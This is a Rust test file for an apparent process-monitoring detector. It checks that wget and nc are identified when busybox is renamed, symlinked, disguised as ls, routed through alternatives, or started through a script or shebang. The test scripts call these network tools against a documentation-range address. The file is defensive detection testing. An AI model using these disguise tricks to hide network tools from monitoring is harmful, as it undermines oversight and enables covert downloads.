//! A tool is found under whatever name it is executed.

use crate::harness::{Container, Dir};

#[test]
fn root_a_renamed_tool_is_found() {
    let cases = [
        ("applet", "/bin/busybox wget http://198.51.100.8/x", "wget"),
        ("link", "ln -s /bin/busybox /tmp/wget; /tmp/wget http://198.51.100.8/x", "wget"),
        (
            "disguise",
            "cp /bin/busybox /usr/bin/wget; ln -s /usr/bin/wget /tmp/ls; /tmp/ls 198.51.100.8",
            "wget",
        ),
        (
            "alternatives",
            "cp /bin/busybox /bin/nc.openbsd; mkdir /etc/alternatives
             ln -s /bin/nc.openbsd /etc/alternatives/nc; ln -s /etc/alternatives/nc /usr/bin/nc
             /usr/bin/nc 198.51.100.8 80",
            "nc",
        ),
        (
            "script",
            "printf '#!/bin/sh\\nwget http://198.51.100.8/x\\n' >/tmp/build; chmod +x /tmp/build
             /tmp/build",
            "wget",
        ),
        (
            "interpreter",
            "printf '#!/bin/wget http://198.51.100.8/x\\n' >/tmp/get; chmod +x /tmp/get; /tmp/get",
            "wget",
        ),
    ];
    for (id, script, tool) in cases {
        check(id, script, tool);
    }
}

/// Runs a script that must be found to use a tool with 198.51.100.8, once.
#[track_caller]
fn check(id: &str, script: &str, tool: &str) {
    let dir = Dir::new();
    let done = Container::new(&dir, id).script(&format!("{script}; :")).run();
    let report = dir.report(id);
    let found: Vec<_> = report
        .findings
        .iter()
        .map(|f| (f.tool.name.as_str(), f.addresses[0].address.as_str()))
        .collect();
    let name = found.first().map_or("", |found| found.0);
    assert!(found.len() == 1 && found[0].1 == "198.51.100.8", "{id}: {found:?}: {done}");
    assert!(name.starts_with(tool), "{id}: {name}");
}

#[test]
fn root_what_is_no_tool_is_not_found() {
    let dir = Dir::new();
    let script = "echo 198.51.100.9; /bin/echo http://198.51.100.9/; ls 198.51.100.9
        wget http://host.invalid/tool-198.51.100.9.tar.gz; :";
    Container::new(&dir, "none").script(script).run().expect_code(0);
    let report = dir.report("none");
    assert_eq!(report.findings, []);
    assert_eq!(report.verdict.as_str(), "clean", "{:?}", report.completeness);
}
